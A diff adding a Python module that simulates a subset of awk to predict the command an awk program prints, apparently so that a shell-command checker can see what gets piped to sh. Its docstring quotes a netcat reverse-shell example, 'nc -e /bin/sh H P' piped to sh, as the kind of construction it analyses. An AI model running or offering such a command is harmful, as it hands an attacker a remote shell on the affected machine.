@@ -1,0 +1,316 @@
+"""What a small awk program prints, for the programs that build a command for a shell:
+`awk 'BEGIN{print "nc -e /bin/sh H P"}' | sh`, `... | awk '{print tolower($0)}' | sh`,
+`awk -F: '{print $2 " " $1}'`.
+
+Read, as POSIX awk and gawk run them: rules made of an optional BEGIN or END and one block of
+statements; `print` (expressions separated by commas are joined by a space, the default OFS) and
+`printf` with %s, %d, %c and %% only; expressions made of string and number literals, fields ($0,
+$N, $NF), NR, NF, variables (`x = "n" "c"`; unset ones are empty), concatenation, parentheses and
+the functions tolower, toupper, substr, length and sprintf. Fields are split on runs of blanks, or on one character given with -F. Anything
+else (patterns, variables, loops, getline, other options) makes the output unknown (None): a wrong
+answer would have the reader read what does not run. A program that has only BEGIN rules reads no
+input, so its output is known even when its input is not.
+"""
+from __future__ import annotations
+
+import re2
+
+MAX_PROGRAM = 4096
+MAX_OUTPUT = 1 << 20
+_TOKEN = re2.compile(
+    r'\s*(?:(?P<string>"(?:[^"\\\n]|\\.)*")|(?P<number>\d+(?:\.\d+)?)|(?P<field>\$)|'
+    r'(?P<name>[A-Za-z_][A-Za-z_0-9]*)|(?P<punct>==|[{}();,\n=]))')
+_ESCAPES = {"n": "\n", "t": "\t", "\\": "\\", '"': '"', "/": "/", "r": "\r", "a": "\a", "b": "\b",
+            "f": "\f", "v": "\v"}
+_FUNCTIONS = frozenset({"tolower", "toupper", "substr", "length", "sprintf"})
+_RESERVED = frozenset({"BEGIN", "END", "print", "printf", "NR", "NF", "FS", "OFS", "ORS", "RS", "SUBSEP",
+                       "FILENAME", "FNR", "RSTART", "RLENGTH", "ENVIRON", "ARGV", "ARGC", "CONVFMT", "OFMT",
+                       "if", "else", "while", "for", "do", "in", "getline", "next", "exit", "function",
+                       "return", "delete", "system", "close", "fflush", *_FUNCTIONS})
+"""Names that are not plain variables: setting FS or OFS changes what print writes, and the rest are
+statements or functions this reader does not run."""
+MAX_VARIABLES = 64
+
+
+class _Unknown(Exception):
+    pass
+
+
+def output(args: list[str], stdin: str | None) -> str | None:
+    """`awk [-F C] 'PROGRAM'` reading `stdin` (None: unknown), or None when that cannot be known."""
+    separator = None
+    words = list(args)
+    if words[:1] == ["--"]:
+        words = words[1:]
+    if words and words[0].startswith("-F"):
+        separator = words.pop(0)[2:] or (words.pop(0) if words else "")
+        if len(separator) != 1 or separator == " ":
+            return None  # a regex or the default: only one plain character is read
+    if len(words) != 1 or len(words[0]) > MAX_PROGRAM:
+        return None
+    try:
+        rules = _Parser(words[0]).program()
+        return _run(rules, stdin, separator)
+    except (_Unknown, IndexError, ValueError, RecursionError):
+        return None
+
+
+class _Parser:
+    def __init__(self, text: str) -> None:
+        self.tokens: list[tuple[str, str]] = []
+        pos = 0
+        text = text.strip()
+        while pos < len(text):
+            match = _TOKEN.match(text, pos)
+            if match is None or match.end() == pos:
+                raise _Unknown(text[pos:pos + 10])
+            pos = match.end()
+            kind = match.lastgroup
+            if kind is None:
+                break  # trailing blanks
+            self.tokens.append((kind, match.group(kind)))
+        self.at = 0
+
+    def peek(self) -> tuple[str, str] | None:
+        return self.tokens[self.at] if self.at < len(self.tokens) else None
+
+    def take(self, value: str | None = None) -> tuple[str, str]:
+        token = self.peek()
+        if token is None or (value is not None and token[1] != value):
+            raise _Unknown(value)
+        self.at += 1
+        return token
+
+    def skip_separators(self) -> None:
+        while self.peek() is not None and self.peek()[1] in (";", "\n"):
+            self.at += 1
+
+    def program(self) -> list[tuple[str, list]]:
+        rules = []
+        self.skip_separators()
+        while self.peek() is not None:
+            kind, value = self.peek()
+            if kind == "name" and value in ("BEGIN", "END"):
+                self.at += 1
+                rules.append((value, self.block()))
+            elif value == "{":
+                rules.append(("MAIN", self.block()))
+            elif kind == "number" and value == "1":
+                self.at += 1
+                rules.append(("MAIN", [("print", [])]))
+            else:
+                raise _Unknown(value)  # a pattern
+            self.skip_separators()
+        return rules
+
+    def block(self) -> list:
+        self.take("{")
+        statements = []
+        self.skip_separators()
+        while self.peek() is not None and self.peek()[1] != "}":
+            statements.append(self.statement())
+            self.skip_separators()
+        self.take("}")
+        return statements
+
+    def statement(self) -> tuple:
+        kind, value = self.take()
+        if kind == "name" and value not in _RESERVED and self.peek() == ("punct", "="):
+            self.at += 1
+            return ("set", value, self.expression())
+        if kind != "name" or value not in ("print", "printf"):
+            raise _Unknown(value)
+        items = []
+        token = self.peek()
+        if token is not None and token[1] not in (";", "\n", "}"):
+            items.append(self.expression())
+            while self.peek() is not None and self.peek()[1] == ",":
+                self.at += 1
+                items.append(self.expression())
+        if value == "printf" and not items:
+            raise _Unknown("printf")
+        return (value, items)
+
+    def expression(self) -> tuple:
+        """Concatenation: terms side by side."""
+        terms = [self.term()]
+        while self.peek() is not None and self.peek()[1] not in (",", ";", "\n", "}", ")"):
+            terms.append(self.term())
+        return ("concat", terms) if len(terms) > 1 else terms[0]
+
+    def term(self) -> tuple:
+        kind, value = self.take()
+        if kind == "string":
+            return ("string", _unescape(value[1:-1]))
+        if kind == "number":
+            return ("string", value)
+        if kind == "field":
+            kind, value = self.take()
+            if kind == "number" and value.isdigit():
+                return ("field", int(value))
+            if kind == "name" and value == "NF":
+                return ("field", "NF")
+            raise _Unknown("$" + value)
+        if kind == "name" and value in ("NR", "NF"):
+            return ("var", value)
+        if kind == "name" and value not in _RESERVED and self.peek() != ("punct", "("):
+            return ("user", value)
+        if kind == "name" and value in _FUNCTIONS:
+            self.take("(")
+            arguments = []
+            if self.peek() is not None and self.peek()[1] != ")":
+                arguments.append(self.expression())
+                while self.peek() is not None and self.peek()[1] == ",":
+                    self.at += 1
+                    arguments.append(self.expression())
+            self.take(")")
+            return ("call", value, arguments)
+        if value == "(":
+            inner = self.expression()
+            self.take(")")
+            return inner
+        raise _Unknown(value)
+
+
+def _unescape(text: str) -> str:
+    out = []
+    i = 0
+    while i < len(text):
+        ch = text[i]
+        if ch == "\\" and i + 1 < len(text):
+            nxt = text[i + 1]
+            if nxt in _ESCAPES:
+                out.append(_ESCAPES[nxt])
+                i += 2
+                continue
+            if nxt in "01234567":
+                digits = text[i + 1:i + 4]
+                octal = len(digits) - len(digits.lstrip("01234567"))
+                digits = digits[:octal] if octal else digits
+                out.append(chr(int(digits, 8)))
+                i += 1 + len(digits)
+                continue
+            raise _Unknown(text[i:i + 2])  # gawk and mawk differ on other escapes
+        out.append(ch)
+        i += 1
+    return "".join(out)
+
+
+def _run(rules: list[tuple[str, list]], stdin: str | None, separator: str | None) -> str | None:
+    out: list[str] = []
+    state = {"NR": 0, "record": "", "fields": [], "vars": {}}
+    for when, statements in rules:
+        if when == "BEGIN":
+            _execute(statements, state, out)
+    if all(when == "BEGIN" for when, _ in rules):
+        return "".join(out)  # no main or END rule: awk does not read its input
+    if stdin is None:
+        return None
+    records = stdin.split("\n")
+    if records[-1] == "":
+        records.pop()
+    for record in records:
+        state["NR"] += 1
+        state["record"] = record
+        state["fields"] = record.split(separator) if separator else record.split()
+        for when, statements in rules:
+            if when == "MAIN":
+                _execute(statements, state, out)
+        if sum(map(len, out)) > MAX_OUTPUT:
+            return None
+    for when, statements in rules:
+        if when == "END":
+            _execute(statements, state, out)  # $0 and the fields keep the last record, as gawk does
+    return "".join(out)
+
+
+def _execute(statements: list, state: dict, out: list[str]) -> None:
+    for verb, *items in statements:
+        if verb == "set":
+            variables = state["vars"]
+            if items[0] not in variables and len(variables) >= MAX_VARIABLES:
+                raise _Unknown("too many variables")
+            variables[items[0]] = _value(items[1], state)
+            if len(variables[items[0]]) > MAX_OUTPUT:
+                raise _Unknown("value too long")
+            continue
+        items = items[0]
+        if verb == "print":
+            values = [_value(item, state) for item in items] if items else [state["record"]]
+            out.append(" ".join(values) + "\n")
+        else:
+            out.append(_format(_value(items[0], state), [_value(item, state) for item in items[1:]]))
+
+
+def _value(node: tuple, state: dict) -> str:
+    kind = node[0]
+    if kind == "string":
+        return node[1]
+    if kind == "concat":
+        return "".join(_value(term, state) for term in node[1])
+    if kind == "field":
+        index = len(state["fields"]) if node[1] == "NF" else node[1]
+        if index == 0:
+            return state["record"]
+        return state["fields"][index - 1] if index <= len(state["fields"]) else ""
+    if kind == "var":
+        return str(state["NR"] if node[1] == "NR" else len(state["fields"]))
+    if kind == "user":
+        return state["vars"].get(node[1], "")
+    name, arguments = node[1], [_value(a, state) for a in node[2]]
+    if name == "tolower" and len(arguments) == 1:
+        return arguments[0].lower() if arguments[0].isascii() else _ascii_case(arguments[0], str.lower)
+    if name == "toupper" and len(arguments) == 1:
+        return arguments[0].upper() if arguments[0].isascii() else _ascii_case(arguments[0], str.upper)
+    if name == "length" and len(arguments) <= 1:
+        return str(len(arguments[0] if arguments else state["record"]))
+    if name == "substr" and len(arguments) in (2, 3):
+        return _substr(arguments)
+    if name == "sprintf" and arguments:
+        return _format(arguments[0], arguments[1:])
+    raise _Unknown(name)
+
+
+def _ascii_case(text: str, change) -> str:
+    """The C locale's case mapping: ASCII letters only."""
+    return "".join(change(ch) if ch.isascii() else ch for ch in text)
+
+
+def _substr(arguments: list[str]) -> str:
+    """POSIX substr(s, m[, n]): characters m .. m+n-1, counted from 1, with whole-number m and n."""
+    text = arguments[0]
+    if not all(a.isdigit() for a in arguments[1:]):
+        raise _Unknown("substr")
+    start = int(arguments[1])
+    end = start + int(arguments[2]) if len(arguments) == 3 else len(text) + 1
+    start = max(start, 1)
+    return text[start - 1:max(start - 1, end - 1)]
+
+
+def _format(fmt: str, values: list[str]) -> str:
+    out = []
+    values = list(values)
+    i = 0
+    while i < len(fmt):
+        ch = fmt[i]
+        if ch != "%":
+            out.append(ch)
+            i += 1
+            continue
+        spec = fmt[i + 1:i + 2]
+        if spec == "%":
+            out.append("%")
+        elif spec == "s":
+            out.append(values.pop(0) if values else "")
+        elif spec == "d":
+            value = values.pop(0) if values else "0"
+            if not value.lstrip("-").isdigit():
+                raise _Unknown("%d")
+            out.append(str(int(value)))
+        elif spec == "c":
+            value = values.pop(0) if values else ""
+            out.append(value[:1])
+        else:
+            raise _Unknown("%" + spec)  # widths, precisions, floats
+        i += 2
+    return "".join(out)
